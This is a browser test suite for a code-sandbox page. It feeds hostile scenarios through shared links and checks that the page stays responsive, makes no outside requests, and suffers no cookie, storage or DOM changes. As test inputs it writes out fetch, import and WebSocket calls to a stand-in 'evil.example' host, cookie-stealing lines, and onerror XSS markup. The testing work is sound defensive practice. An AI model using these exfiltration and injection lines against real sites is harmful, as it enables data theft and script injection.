import type { BrowserContext, Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { encodeShare } from '../../src/editor/shareLink.ts';
import { launch } from './browser.ts';

/*
 * Shared links carry code from strangers. Each scenario below arrives as a
 * link to the sandbox page, in Chromium, and must end in a clear message or a
 * harmless run: never a hung tab, a request leaving the site, a change to the
 * page's cookies, storage or built-ins, an injected element or a dialog.
 */

const site = inject('siteUrl');
const origin = new URL(site).origin;
let context: BrowserContext;

const WORLD = `{
  duration: '1m',
  cluster: { nodes: 1 },
  services: { web: { replicas: 1, cpu: 1, work: '5ms' } },
  traffic: { users: { to: 'web', rate: 5 } },
}`;
const header = "import { defineScenario } from 'cloudscope';\n";
const valid = `export default defineScenario(${WORLD});\n`;

interface Visit {
  page: Page;
  /** The problems the editor lists, as text ('' when the scenario ran). */
  problems: string;
  ran: boolean;
  foreign: string[];
  dialogs: string[];
  pageErrors: string[];
}

/** Opens the source as a shared link and waits for the sandbox's verdict: ran, or problems. */
async function visit(source: string): Promise<Visit> {
  const page = await context.newPage();
  const foreign: string[] = [];
  const dialogs: string[] = [];
  const pageErrors: string[] = [];
  const watch = (request: Request) => {
    if (!request.url().startsWith(origin) && !request.url().startsWith('data:')) {
      foreign.push(request.url());
    }
  };
  context.on('request', watch);
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => pageErrors.push(error.message));
  await page.goto(`${site}#/sandbox?s=${encodeShare({ source, t: 0 })}`);
  const ranNote = page.getByText('Your version is running in the panel.');
  const problemList = page.locator('.problems');
  await expect
    .poll(async () => (await ranNote.count()) + (await problemList.count()), { timeout: 20_000 })
    .toBeGreaterThan(0);
  const ran = (await ranNote.count()) > 0;
  const problems = ran ? '' : ((await problemList.textContent()) ?? '');
  context.off('request', watch);
  return { page, problems, ran, foreign, dialogs, pageErrors };
}

/** What must hold after any hostile scenario, whatever its verdict. */
async function expectHarmless(v: Visit): Promise<void> {
  const { page } = v;
  // Still responsive: a frame is drawn and a click is answered at once.
  const frame = await page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        const start = performance.now();
        requestAnimationFrame(() => resolve(performance.now() - start));
      }),
  );
  expect(frame).toBeLessThan(1000);
  await page.getByRole('button', { name: /Run Ctrl\+Enter/ }).focus();
  expect(v.foreign).toEqual([]);
  expect(v.dialogs).toEqual([]);
  expect(v.pageErrors).toEqual([]);
  const page_ = await page.evaluate(() => ({
    cookie: document.cookie,
    polluted: (Object.prototype as Record<string, unknown>).polluted,
    pwned: (window as unknown as Record<string, unknown>).pwned,
    injected: document.querySelectorAll('img[src="x"], b.injected, script:not([src])').length,
    storage: Object.keys(localStorage).filter((k) => !k.startsWith('cloudscope')),
  }));
  expect(page_).toEqual({
    cookie: '',
    polluted: undefined,
    pwned: undefined,
    injected: 0,
    storage: [],
  });
  await page.close();
}

beforeAll(async () => {
  context = await launch({ width: 1280, height: 900 });
});

afterAll(async () => {
  await context?.close();
});

describe('hostile scenarios from a shared link', () => {
  it('runs a harmless scenario (the baseline the others are held to)', async () => {
    const v = await visit(header + valid);
    expect(v.ran).toBe(true);
    await expectHarmless(v);
  });

  it('stops an endless loop at top level after 2 s and says why', async () => {
    const started = Date.now();
    const v = await visit(`${header}while (true) {}\n${valid}`);
    expect(v.problems).toMatch(/2 s/);
    expect(v.problems).toMatch(/loop/);
    expect(Date.now() - started).toBeLessThan(15_000);
    await expectHarmless(v);
  });

  it('stops a scenario that allocates without end', async () => {
    const v = await visit(
      `${header}const chunks: Float64Array[] = [];\nfor (;;) chunks.push(new Float64Array(2 ** 26));\n${valid}`,
    );
    expect(v.ran).toBe(false);
    expect(v.problems).toMatch(/RangeError|memory|2 s/);
    await expectHarmless(v);
  });

  it('stops a scenario that builds an enormous string', async () => {
    const v = await visit(`${header}let s = 'x';\nfor (;;) s += s;\n${valid}`);
    expect(v.ran).toBe(false);
    expect(v.problems).toMatch(/Invalid string length|RangeError|2 s/);
    await expectHarmless(v);
  });

  it('cannot flood the page with messages', async () => {
    const v = await visit(
      `${header}for (let i = 0; i < 1e6; i++) (self as any).postMessage({ flood: i });\n${valid}`,
    );
    expect(v.problems).toMatch(/postMessage is not available/);
    await expectHarmless(v);
  });

  it('cannot reach the network', async () => {
    const v = await visit(
      `${header}void import('https://evil.example/x.js').catch(() => {});\nfetch('https://evil.example/steal');\n${valid}`,
    );
    expect(v.problems).toMatch(/fetch is not available/);
    await expectHarmless(v);
  });

  it('cannot open a connection or load scripts another way', async () => {
    for (const call of [
      "new WebSocket('wss://evil.example')",
      "importScripts('https://evil.example/x.js')",
      "new XMLHttpRequest().open('GET', 'https://evil.example')",
      "indexedDB.open('x')",
    ]) {
      const v = await visit(`${header}${call};\n${valid}`);
      expect(v.problems, call).toMatch(/is not available/);
      await expectHarmless(v);
    }
  });

  it('cannot touch the page, its cookies or its storage', async () => {
    for (const call of [
      "document.cookie = 'stolen=1'",
      "localStorage.setItem('stolen', '1')",
      "(globalThis as any).parent.document.body.innerHTML = ''",
    ]) {
      const v = await visit(`${header}${call};\n${valid}`);
      expect(v.ran, call).toBe(false);
      expect(v.problems, call).toMatch(/not defined|not available|undefined|Cannot read/);
      await expectHarmless(v);
    }
  });

  it('pollutes only its own worker’s Object.prototype, never the page’s', async () => {
    const v = await visit(`${header}(Object.prototype as any).polluted = 'yes';\n${valid}`);
    await expectHarmless(v);
  });

  it('reports a thrown non-Error as text, markup and all', async () => {
    const v = await visit(`${header}throw 42;\n`);
    expect(v.problems).toMatch(/42/);
    await expectHarmless(v);
    const w = await visit(
      `${header}throw { message: '<img src=x onerror="window.pwned=1"><b class="injected">x</b>' };\n`,
    );
    expect(w.ran).toBe(false);
    expect(w.problems.length).toBeGreaterThan(0);
    await expectHarmless(w);
  });

  it('refuses functions and cycles in what the scenario returns, with where they are', async () => {
    const fn = await visit(
      `${header}const world: any = ${WORLD};\nworld.services.web.replicas = () => 2;\nexport default world;\n`,
    );
    expect(fn.problems).toMatch(/function/i);
    expect(fn.problems).toMatch(/services\.web\.replicas|replicas/);
    await expectHarmless(fn);
    const cyclic = await visit(
      `${header}const world: any = ${WORLD};\nworld.services.web.self = world;\nexport default world;\n`,
    );
    expect(cyclic.problems).toMatch(/cycl|circular|itself/i);
    await expectHarmless(cyclic);
  });

  it('shows names and labels with markup as plain text', async () => {
    const name = '<img src=x onerror="window.pwned=1">';
    const v = await visit(
      `${header}export default defineScenario({ duration: '1m', services: { '${name}': { replicas: 1 } }, goals: [{ noLoss: 'all', label: '<b class="injected">label</b>' }] });\n`,
    );
    if (v.ran) {
      // Accepted: the name is drawn as text somewhere on the page.
      await expect.poll(() => v.page.getByText(name, { exact: false }).count()).toBeGreaterThan(0);
    } else {
      expect(v.problems).toContain('<img');
    }
    await expectHarmless(v);
  });
});
